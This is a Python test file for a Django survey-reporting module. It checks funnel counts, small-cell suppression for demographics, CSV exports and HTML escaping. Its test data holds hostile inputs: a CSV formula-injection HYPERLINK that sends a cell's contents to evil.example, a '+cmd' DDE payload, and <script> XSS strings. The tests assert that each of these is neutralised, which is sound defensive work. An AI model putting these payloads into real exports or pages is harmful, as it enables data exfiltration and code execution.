"""Survey reports: the funnel on a hand-built case shaped like EsBBQ's (answers coded into
several concepts, invalid ones, the rule passing for some), k-suppression with its
complementary case, the CSV exports (counts only; formulas neutralised), escaping and access."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse

from apps.catalog.inclusion import concept_verdict
from apps.catalog.models import Category, StereotypeConcept
from apps.catalog.services import concept_create
from apps.releases.csv_safety import csv_cell_restore
from apps.surveys.models import Answer, AnswerConcept, Respondent
from apps.surveys.services.counts import survey_counts_refresh
from apps.surveys.services.reports import (
    ANSWER_COLUMNS,
    UNCATEGORISED,
    report_demographics,
    report_funnel,
    report_responses_over_time,
    report_suppress,
)
from apps.surveys.services.surveys import survey_create

from .conftest import complete_content

DAY = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)


def respondent(survey, n: int, demographics: dict | None = None) -> Respondent:
    return Respondent.objects.create(
        survey=survey,
        token_hash=f"{n:064x}",
        demographics=demographics or {},
        demographics_version=survey.current_version,
        demographics_asked=demographics is not None,
    )


def answer(survey, who: Respondent, category_key: str = "religion", **fields) -> Answer:
    fields.setdefault("text", f"answer {Answer.objects.count() + 1}")
    fields.setdefault("submitted_at", DAY)
    return Answer.objects.create(
        survey=survey,
        version=survey.current_version,
        respondent=who,
        language="es",
        category_key=category_key,
        **fields,
    )


def concept(dataset, category: str, statement: str, *, validated: bool = True):
    return concept_create(
        category=Category.objects.get_or_create(name=category)[0],
        statement=statement,
        evidence=[{"url": "https://example.org/study", "note": "study"}],
        dataset=dataset,
        source="survey",
        validation_status="validated" if validated else "pending",
    )


def code(a: Answer, *concepts) -> None:
    for c in concepts:
        AnswerConcept.objects.create(answer=a, concept=c)
    if a.status == Answer.Status.PENDING:
        a.status = Answer.Status.CODED
        a.save(update_fields=["status"])


@pytest.fixture
def esbbq_case(survey, dataset):
    """13 answers by 6 respondents: coded into 5 concepts by 15 valid links (more links than
    answers, as EsBBQ's 705 -> 752), two invalid answers (one with a leftover link), two
    pending; two concepts kept: c1 (4 mentions), c2 (2 mentions, one affected); c3 has 2
    mentions and nobody affected, c4 2 mentions, c5 3 mentions but is not validated."""
    r = [respondent(survey, n) for n in range(1, 7)]
    c1 = concept(dataset, "Religion", "Los musulmanes son X")
    c2 = concept(dataset, "Religion", "Los hindúes son Y")
    c3 = concept(dataset, "Religion", "Los musulmanes son Z")
    c4 = concept(dataset, "Region", "Los andaluces son W")
    c5 = concept(dataset, "Region", "Los andaluces son V", validated=False)
    code(answer(survey, r[0]), c1, c2)  # a1
    code(answer(survey, r[1]), c1, c3)  # a2
    code(answer(survey, r[2]), c1, c3)  # a3
    code(answer(survey, r[3], affected=True), c2)  # a4
    code(answer(survey, r[3], "region"), c5)  # a5
    code(answer(survey, r[4], "region"), c4, c5)  # a6
    code(answer(survey, r[5], "region"), c5)  # a7
    invalid = answer(survey, r[5], status=Answer.Status.INVALID, invalid_reason="spam")  # a8
    AnswerConcept.objects.create(answer=invalid, concept=c4)  # left over: must not count
    answer(survey, r[0], "region")  # a9, pending
    answer(survey, r[1], "")  # a10, pending, no category
    answer(survey, r[2], status=Answer.Status.INVALID, invalid_reason="not_stereotype")  # a11
    code(answer(survey, r[4], "region"), c4, c5)  # a12
    code(answer(survey, r[5]), c1, c4)  # a13: one answer, two categories
    survey_counts_refresh(concept_ids=[c.pk for c in (c1, c2, c3, c4, c5)])
    return {"concepts": [c1, c2, c3, c4, c5]}


EXPECTED = {
    "answers": 13,
    "valid": 15,
    "unique": 5,
    "kept": 2,
    "by_category": {
        "Region": {"answers": 6, "valid": 7, "unique": 2, "kept": 0},
        "Religion": {"answers": 7, "valid": 8, "unique": 3, "kept": 2},
        UNCATEGORISED: {"answers": 1, "valid": 0, "unique": 0, "kept": 0},
    },
}


def test_funnel_reproduces_the_esbbq_structure(survey, esbbq_case):
    funnel = report_funnel(survey=survey)
    assert funnel.as_dict() == EXPECTED
    assert funnel.overall.valid > funnel.overall.answers  # as 705 answers -> 752 stereotypes
    assert funnel.overall.kept_share == pytest.approx(2 / 5)
    assert [row.name for row in funnel.by_category] == ["Region", "Religion", UNCATEGORISED]
    # The categories' valid/unique/kept add up to the overall figures; answers may exceed it
    # (a13 counts under both categories).
    for key in ("valid", "unique", "kept"):
        assert sum(getattr(row, key) for row in funnel.by_category) == EXPECTED[key]
    assert sum(row.answers for row in funnel.by_category) == EXPECTED["answers"] + 1


def test_kept_agrees_with_concept_verdict(survey, esbbq_case):
    verdicts = {
        c.statement: concept_verdict(StereotypeConcept.objects.get(pk=c.pk))
        for c in esbbq_case["concepts"]
    }
    assert {s for s, v in verdicts.items() if v.passes} == {
        "Los musulmanes son X",
        "Los hindúes son Y",
    }
    assert verdicts["Los musulmanes son X"].mentions == 4
    assert verdicts["Los musulmanes son Z"].reasons == [
        "2 mentions and none affected; needs 3, or 2 with one affected"
    ]
    assert report_funnel(survey=survey).overall.kept == sum(v.passes for v in verdicts.values())


def test_funnel_follows_the_coding(survey, esbbq_case):
    """Marking the affected answer invalid drops c2 below the rule: kept falls to 1."""
    c2 = esbbq_case["concepts"][1]
    a4 = Answer.objects.get(codings__concept=c2, affected=True)
    a4.status, a4.invalid_reason = Answer.Status.INVALID, "duplicate"
    a4.save()
    survey_counts_refresh(concept_ids=[c2.pk])
    funnel = report_funnel(survey=survey).as_dict()
    assert funnel["valid"] == 14 and funnel["unique"] == 5 and funnel["kept"] == 1
    # a4 now counts by the category its respondent picked (religion -> Religion).
    assert funnel["by_category"]["Religion"] == {"answers": 7, "valid": 7, "unique": 3, "kept": 1}


def test_empty_survey_funnel(survey):
    assert report_funnel(survey=survey).as_dict() == {
        "answers": 0,
        "valid": 0,
        "unique": 0,
        "kept": 0,
        "by_category": {},
    }
    assert report_funnel(survey=survey).overall.kept_share is None
    assert report_responses_over_time(survey=survey) == []


def test_responses_over_time_fills_empty_days(survey):
    a, b = respondent(survey, 1), respondent(survey, 2)
    answer(survey, a, submitted_at=DAY)
    answer(survey, a, submitted_at=DAY + timedelta(hours=1))
    answer(survey, a, submitted_at=DAY + timedelta(days=2))
    answer(survey, b, submitted_at=DAY + timedelta(days=2, hours=3))
    days = report_responses_over_time(survey=survey)
    assert [(d.day.isoformat(), d.answers, d.new_respondents) for d in days] == [
        ("2026-03-02", 2, 1),
        ("2026-03-03", 0, 0),
        ("2026-03-04", 2, 1),
    ]


# -- k-suppression ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("counts", "expected"),
    [
        ([5, 6, 9], ["", "", ""]),
        # Two small cells whose sum leaves each 1..4: no complement needed.
        ([20, 3, 2, 9], ["", "small", "small", ""]),
        # One small cell: total - shown would give it; the next smallest is hidden too.
        ([40, 35, 3], ["", "complementary", "small"]),
        # Two small cells that must both be 4 (sum 8, each at most 4): one more is hidden.
        ([10, 4, 4], ["complementary", "small", "small"]),
        # All the small cells are 0 (sum 0): they would be known; hide one more.
        ([40, 35, 0, 0], ["", "complementary", "small", "small"]),
        # A single cell under K: nothing else to hide it behind.
        ([3], ["small"]),
    ],
)
def test_suppression_rule(counts, expected):
    assert report_suppress(counts=counts, k=5) == expected


def test_no_hidden_cell_can_be_worked_out():
    """Brute force over small tables: with the total known, every hidden cell has at least
    two values consistent with what is shown (a small one 0..4, a complementary one >= 5),
    unless every cell is hidden."""
    import itertools

    k = 5
    for counts in itertools.product([0, 1, 3, 4, 5, 6, 9], repeat=3):
        marks = report_suppress(counts=list(counts), k=k)
        hidden = [i for i, m in enumerate(marks) if m]
        if not hidden or len(hidden) == len(counts):
            continue
        total = sum(counts)
        shown = sum(counts[i] for i, m in enumerate(marks) if not m)
        ranges = [range(0, k) if marks[i] == "small" else range(k, total + 1) for i in hidden]
        for position in range(len(hidden)):
            possible = {
                combo[position]
                for combo in itertools.product(*ranges)
                if sum(combo) == total - shown
            }
            assert len(possible) >= 2, (counts, marks, hidden[position], possible)


@pytest.fixture
def demographic_survey(dataset, researcher):
    content = complete_content(["hi", "es"])
    by_key = {q["key"]: q for q in content["demographics"]}
    lgbt = by_key["lgbtqia"]
    content["demographics"] = [lgbt, by_key["region_birth"]]
    lgbt["labels"]["hi"] = "क्या आप LGBTQIA+ समुदाय से हैं?"
    lgbt["options"][0]["labels"]["hi"] = "हाँ"
    lgbt["options"][1]["labels"]["hi"] = "नहीं"
    survey = survey_create(
        dataset=dataset, slug="demografia", languages=["hi", "es"], content=content
    )
    decomposed = unicodedata.normalize("NFD", "Andalucía")
    births = (
        ["Andalucía", "andalucía", " ANDALUCÍA ", decomposed, "Andalucía"]
        + ["Madrid"] * 6
        + ["Kerala", "kerala", "केरल"]
        + ["<script>alert(1)</script>"] * 5
    )
    people = []
    # 34 respondents: lgbtqia yes 3, no 20, prefer not 6, not answered 5.
    lgbt = ["yes"] * 3 + ["no"] * 20 + ["prefer_not"] * 6 + [None] * 5
    for n, value in enumerate(lgbt):
        demographics = {}
        if value:
            demographics["lgbtqia"] = value
        if n < len(births):
            demographics["region_birth"] = births[n]
        people.append(respondent(survey, 1000 + n, demographics))
    for who in people:
        answer(survey, who)
    return survey


def cells(question) -> dict[str, str]:
    return {cell.key: cell.display(question.k) for cell in question.cells}


def test_demographics_suppress_small_cells_and_their_complement(demographic_survey):
    questions = {q.key: q for q in report_demographics(survey=demographic_survey, language="hi")}
    lgbt = questions["lgbtqia"]
    # yes (3) is small; alone it would be 34 - 20 - 6 - 5: "not answered" (5) is hidden too.
    assert cells(lgbt) == {
        "yes": "< 5",
        "no": "20",
        "prefer_not": "6",
        "_not_answered": "hidden",
    }
    assert lgbt.total == 34
    assert [c.count for c in lgbt.cells] == [None, 20, 6, None]  # the counts are not handed on
    assert lgbt.label == "क्या आप LGBTQIA+ समुदाय से हैं?"
    assert [c.label for c in lgbt.cells][:2] == ["हाँ", "नहीं"]


def test_free_text_demographics_count_normalised_values_and_pool_rare_ones(demographic_survey):
    question = {q.key: q for q in report_demographics(survey=demographic_survey)}["region_birth"]
    assert question.free_text
    shown = {cell.label: cell.display(5) for cell in question.cells}
    # Five spellings of Andalucía (NFC, case, spaces) are one value; Kerala (2) and केरल (1)
    # are pooled, their text shown nowhere.
    assert shown == {
        "Madrid": "6",
        "<script>alert(1)</script>": "5",
        "Andalucía": "5",
        "Other values (each given by fewer than 5)": "< 5",
        "बताना नहीं चाहेंगे": "< 5",
        "Not answered": "15",
    }
    assert not any("kerala" in c.label.casefold() or "केरल" in c.label for c in question.cells)


def test_min_cell_is_configurable(demographic_survey, settings):
    settings.KASAUTI_SURVEY_MIN_CELL = 3
    lgbt = {q.key: q for q in report_demographics(survey=demographic_survey)}["lgbtqia"]
    assert cells(lgbt) == {"yes": "3", "no": "20", "prefer_not": "6", "_not_answered": "5"}


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the UTF-8 BOM, for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_demographics_csv_has_counts_only_suppressed(client, researcher, demographic_survey):
    client.force_login(researcher)
    url = reverse("surveys:report-demographics-csv", args=[demographic_survey.slug])
    response = client.get(url + "?lang=hi")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response)
    assert rows[0] == ["question_key", "question", "value_key", "value", "respondents"]
    by_key = {(r[0], r[2]): r for r in rows[1:]}
    assert by_key[("lgbtqia", "yes")][3:] == ["हाँ", "< 5"]
    assert by_key[("lgbtqia", "_not_answered")][4] == "hidden"
    assert by_key[("lgbtqia", "no")][4] == "20"
    assert by_key[("lgbtqia", "_total")][4] == "34"
    assert by_key[("lgbtqia", "yes")][1] == "क्या आप LGBTQIA+ समुदाय से हैं?"
    text = "\n".join(",".join(r) for r in rows)
    assert "Kerala" not in text and "केरल" not in text
    # Every count cell is a number of at least 5, "< 5" or "hidden".
    for row in rows[1:]:
        assert row[4] in ("< 5", "hidden") or int(row[4]) >= 5, row


# -- answers CSV ------------------------------------------------------------------------------


def test_answers_csv_neutralises_formulas_and_leaves_out_demographics(
    client, researcher, survey, dataset
):
    who = respondent(survey, 7, {"gender": "woman", "region_birth": "Secretville"})
    hostile = concept(dataset, "Religion", "=1+1 son malos")
    a = answer(
        survey,
        who,
        text='=HYPERLINK("http://evil.example/?q="&A1,"clic")',
        attribute="+cmd|' /C calc'!A0",
        experience="@SUM(A1:A9)",
        group_text="-1+1",
        group_keys=["muslim"],
        heard=True,
        affected=True,
    )
    code(a, hostile)
    answer(
        survey,
        who,
        text="मुसलमान ऐसे होते हैं",
        status=Answer.Status.INVALID,
        invalid_reason="spam",
        submitted_at=DAY + timedelta(days=1),
    )
    client.force_login(researcher)
    response = client.get(reverse("surveys:report-answers-csv", args=[survey.slug]))
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0] == ANSWER_COLUMNS
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["text"] == '\'=HYPERLINK("http://evil.example/?q="&A1,"clic")'
    assert first["attribute"] == "'+cmd|' /C calc'!A0"
    assert first["experience"] == "'@SUM(A1:A9)"
    assert first["groups"] == "muslim; -1+1"  # starts with "m": a plain cell
    assert first["concept_statements"] == "'=1+1 son malos"
    assert first["concept_ids"] == str(hostile.pk)
    assert (first["heard"], first["witnessed"], first["affected"]) == ("yes", "no", "yes")
    assert csv_cell_restore(first["text"]) == '=HYPERLINK("http://evil.example/?q="&A1,"clic")'
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["text"] == "मुसलमान ऐसे होते हैं"  # Devanagari round-trips exactly
    assert (second["status"], second["invalid_reason"]) == ("invalid", "spam")
    # No cell anywhere starts a formula.
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell
    body = "\n".join(",".join(r) for r in rows)
    assert "Secretville" not in body and "woman" not in body


def test_group_cell_starting_with_minus_is_neutralised(client, researcher, survey):
    who = respondent(survey, 8)
    answer(survey, who, text="", group_text="-1+1", attribute="@x")
    client.force_login(researcher)
    rows = read_csv(client.get(reverse("surveys:report-answers-csv", args=[survey.slug])))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["groups"] == "'-1+1" and row["attribute"] == "'@x"


# -- the page ---------------------------------------------------------------------------------


def test_page_shows_funnel_and_charts(client, researcher, survey, esbbq_case):
    client.force_login(researcher)
    response = client.get(reverse("surveys:report", args=[survey.slug]))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="funnel-chart"' in html and 'id="time-chart"' in html
    assert html.count("<svg") >= 3
    assert '<title id="funnel-chart-title">Survey funnel</title>' in html
    assert "Answers 13, valid stereotypes 15, unique concepts 5, kept 2." in html
    overall = response.context["funnel"].as_dict()
    assert overall == EXPECTED


def test_page_escapes_script_in_labels(client, researcher, demographic_survey, dataset):
    client.force_login(researcher)
    category = Category.objects.create(name="<script>alert('cat')</script>")
    c = concept_create(category=category, statement="x", evidence=[], dataset=dataset)
    who = respondent(demographic_survey, 9999)
    code(answer(demographic_survey, who, text="<script>alert('text')</script>"), c)
    response = client.get(reverse("surveys:report", args=[demographic_survey.slug]))
    html = response.content.decode()
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the free-text value, 5 people
    assert "&lt;script&gt;alert(&#x27;cat&#x27;)&lt;/script&gt;" in html


def test_page_suppressed_cells_have_no_bar(client, researcher, demographic_survey):
    client.force_login(researcher)
    html = client.get(
        reverse("surveys:report", args=[demographic_survey.slug]) + "?lang=hi"
    ).content.decode()
    chart = html[
        html.index('id="chart-lgbtqia"') : html.index("</svg>", html.index('id="chart-lgbtqia"'))
    ]
    assert chart.count('class="marker"') == 2  # yes (< 5) and not answered (hidden)
    assert chart.count('class="bar"') == 2
    assert "&lt; 5" in chart and "hidden" in chart
    assert 'lang="hi">हाँ</text>' in chart


@pytest.mark.parametrize(
    "name", ["surveys:report", "surveys:report-demographics-csv", "surveys:report-answers-csv"]
)
def test_reports_are_for_researchers_only(client, survey, annotator, outsider, researcher, name):
    url = reverse(name, args=[survey.slug])
    assert client.get(url).status_code == 302  # to the login page
    for user in (annotator, outsider):
        client.force_login(user)
        assert client.get(url).status_code == 403
    client.force_login(researcher)
    assert client.get(url).status_code == 200
    assert client.get(reverse(name, args=["no-such-survey"])).status_code == 404
    assert client.post(url).status_code == 405


def test_page_of_a_survey_without_answers(client, researcher, survey):
    client.force_login(researcher)
    response = client.get(reverse("surveys:report", args=[survey.slug]) + "?lang=xx")
    assert response.status_code == 200
    html = response.content.decode()
    assert "No answers yet." in html
    assert response.context["language"] == "hi"  # an unknown language falls back to the first
    # Nobody answered: every cell and the total are under K, none shows a number.
    for question in response.context["demographics"]:
        assert question["question"].total is None
        assert {c.display(5) for c in question["question"].cells} == {"< 5"}


def test_labels_follow_the_chosen_language(client, researcher, demographic_survey):
    client.force_login(researcher)
    url = reverse("surveys:report", args=[demographic_survey.slug])
    hindi = client.get(url + "?lang=hi").context["demographics"]
    spanish = client.get(url + "?lang=es").context["demographics"]
    assert [c.label for c in hindi[0]["question"].cells][:2] == ["हाँ", "नहीं"]
    assert [c.label for c in spanish[0]["question"].cells][:2] == ["Sí", "No"]
    # The counts do not depend on the language.
    assert [c.display(5) for c in hindi[0]["question"].cells] == [
        c.display(5) for c in spanish[0]["question"].cells
    ]


def test_small_survey_total_is_suppressed_in_the_csv(client, researcher, survey):
    for n in range(3):
        answer(survey, respondent(survey, 50 + n, {"gender": "woman"}))
    client.force_login(researcher)
    rows = read_csv(client.get(reverse("surveys:report-demographics-csv", args=[survey.slug])))
    totals = {r[0]: r[4] for r in rows[1:] if r[2] == "_total"}
    assert totals["gender"] == "< 5"
    assert all(r[4] in ("< 5", "hidden") for r in rows[1:]), rows
